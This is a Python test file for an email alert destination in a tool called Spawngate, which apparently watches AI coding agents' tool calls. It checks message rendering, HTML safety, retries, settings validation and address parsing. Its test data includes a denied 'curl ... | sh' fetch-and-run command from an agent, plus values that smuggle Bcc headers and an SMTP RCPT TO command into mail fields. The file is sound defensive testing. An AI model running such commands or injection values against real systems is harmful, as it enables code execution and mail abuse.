"""Email: whole mails, headers that nothing can be put into, HTML in which nothing acts."""

from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.routing.destination import Context, Done, Failed, HttpAnswer, Mail, Outcome
from spawngate.routing.destinations.email import EmailSettings, exchange, is_address, render
from spawngate.routing.notice import Notice
from spawngate.routing.settings import SettingsError, decode
from tests.routing.samples import ALL, EVIL, NOTICE, NOW
from tests.routing.test_destination import drive

GIVEN: dict[str, Any] = {"host": "mail.example.com", "to": ["sec@example.com"], "sender": "gate@example.com"}
SETTINGS = decode(EmailSettings, {**GIVEN, "user": "gate", "password": "pw"}, "d")
CONTEXT = Context(NOW)


def parsed(mail: Mail) -> EmailMessage:
    message = message_from_bytes(mail.message, policy=default)
    assert isinstance(message, EmailMessage)
    return message


def test_a_whole_mail() -> None:
    mail = render(SETTINGS, NOTICE, CONTEXT)
    assert msgspec.structs.replace(mail, message=b"") == Mail(
        host="mail.example.com",
        port=587,
        security="starttls",
        sender="gate@example.com",
        recipients=("sec@example.com",),
        message=b"",
        user="gate",
        password="pw",
    )
    message = parsed(mail)
    counts = "10,000 events (9,800 deny, 200 ask) on 2,000 endpoints in 5m"
    subject = f"[Spawngate] New (high): Calls denied: rule pipe-to-shell - {counts}"
    assert dict(message.items()) == {
        "From": "Spawngate <gate@example.com>",
        "To": "sec@example.com",
        "Subject": subject,
        "Date": "Sat, 21 Nov 2026 10:00:00 +0000",
        "Message-ID": f"<{NOTICE.id}@example.com>",
        "References": f"<{NOTICE.key}@example.com>",
        "In-Reply-To": f"<{NOTICE.key}@example.com>",
        "Auto-Submitted": "auto-generated",
        "X-Spawngate-Route": "denies",
        "X-Spawngate-Notice": NOTICE.id,
        "X-Priority": "2",
        "MIME-Version": "1.0",
        "Content-Type": message["Content-Type"],
    }
    plain, page = message.iter_parts()
    assert isinstance(plain, EmailMessage)
    assert isinstance(page, EmailMessage)
    assert plain.get_content().split("\r\n") == [
        "[Spawngate] New (high): Calls denied: rule pipe-to-shell",
        "",
        counts,
        "",
        "Type: decision",
        "Rule: pipe-to-shell",
        "Severity: high",
        "First: 2026-11-21T10:00:00Z",
        "Last: 2026-11-21T10:05:00Z",
        "Route: denies",
        "",
        "2026-11-21T10:00:00Z deny high laptop-1 claude-code ana",
        "    Bash: curl https://x.example | sh",
        "",
        "Open in Spawngate: https://console.example/?q=1",
        "",
        "-- ",
        f"Spawngate notice {NOTICE.id}",
        "",
    ]
    assert page.get_content_type() == "text/html"
    assert "<h2>[Spawngate] New (high): Calls denied: rule pipe-to-shell</h2>" in page.get_content()
    assert b"\n" not in mail.message.replace(b"\r\n", b"")
    assert render(SETTINGS, NOTICE, CONTEXT) == mail


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name == "href"}


@pytest.mark.parametrize("name", ALL)
def test_every_page_holds_our_elements_and_no_other(name: str) -> None:
    page = list(parsed(render(SETTINGS, ALL[name], CONTEXT)).iter_parts())[1]
    assert isinstance(page, EmailMessage)
    seen = _Seen()
    seen.feed(page.get_content())
    assert seen.tags <= {"html", "body", "h2", "p", "strong", "table", "tr", "td", "b", "br", "span", "ul", "li", "a"}
    assert seen.attributes <= {"lang", "style", "href"}
    assert seen.links <= {ALL[name].link}


@given(st.text(max_size=200), st.text(max_size=60))
def test_no_text_becomes_a_header(title: str, route: str) -> None:
    notice: Notice = msgspec.structs.replace(
        EVIL, title=title + "\r\nBcc: evil@example.com\r\n\r\nbody", route=route + "\r\nX: y"
    )
    message = parsed(render(SETTINGS, notice, CONTEXT))
    assert message["Bcc"] is None
    assert message["X"] is None
    assert message["To"] == "sec@example.com"
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [
        (Done(), Outcome("delivered", "taken")),
        (Failed("login", "535", 535), Outcome("retry", "login: 535", blame="setting")),
        (Failed("rejected", "552 too big", 552), Outcome("refused", "rejected: 552 too big", blame="content")),
        (HttpAnswer(200), Outcome("retry", "this is no answer of a mail server", blame="destination")),
    ],
)
def test_what_answers_mean(answer: Any, outcome: Outcome) -> None:
    assert drive(exchange(SETTINGS, NOTICE, CONTEXT), answer)[1] == outcome


def test_who_was_refused_for_now_alone_is_tried_again() -> None:
    settings = decode(EmailSettings, {**GIVEN, "to": ["a@x.example", "b@x.example", "c@x.example"]}, "d")
    refused = Done((("b@x.example", "450 later"), ("c@x.example", "550 nobody")))
    _, outcome = drive(exchange(settings, NOTICE, CONTEXT), refused)
    assert outcome == Outcome(
        "retry", "b@x.example: 450 later; c@x.example: 550 nobody", remember={"pending": f"{NOTICE.id} b@x.example"}
    )
    again = Context(NOW, attempt=2, remembered=outcome.remember)
    sent, outcome = drive(exchange(settings, NOTICE, again), Done())
    assert isinstance(sent[0], Mail)
    assert (sent[0].recipients, outcome.state) == (("b@x.example",), "delivered")
    sent, _ = drive(exchange(settings, EVIL, again), Done((("a@x.example", "550 nobody"),)))
    assert isinstance(sent[0], Mail)
    assert sent[0].recipients == settings.to


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"host": "a b"}, "d.host: must be a host's name or address"),
        ({"port": 0}, "d.port: must be between 1 and 65535"),
        ({"sender": "gate"}, "d.sender: must be a mail address: spawngate@example.com"),
        ({"sender": "Gate <g@example.com>"}, "d.sender: must be a mail address: spawngate@example.com"),
        ({"to": []}, "d.to: give one to a hundred mail addresses"),
        ({"to": ["a@b.example", "x@y\r\nRCPT TO:<z@z>"]}, "d.to[1]: must be a mail address: security@example.com"),
        ({"user": "u"}, "d.password: user and password belong together"),
        ({"password": "p"}, "d.user: user and password belong together"),
        ({"user": "u", "password": "p", "security": "plain"}, "d.security: a password is never sent without TLS"),
        ({"proxy": "http://p.example:1"}, "d.proxy: mail does not go through a proxy"),
        ({"security": "none"}, "d.security: is none of the values that it may have"),
    ],
)
def test_settings(given: dict[str, Any], message: str) -> None:
    with pytest.raises(SettingsError) as error:
        decode(EmailSettings, {**GIVEN, **given}, "d")
    assert str(error.value) == message


@pytest.mark.parametrize(
    ("text", "good"),
    [
        ("a@b.example", True),
        ("a.b+c@b.example", True),
        ("a@10.0.0.1", True),
        (".a@b.example", False),
        ("a..b@b.example", False),
        ("@b.example", False),
        ("a@", False),
        ('"a b"@b.example', False),
        ("a@b.example>", False),
        ("ä@b.example", False),
    ],
)
def test_addresses(text: str, good: bool) -> None:
    assert is_address(text) is good
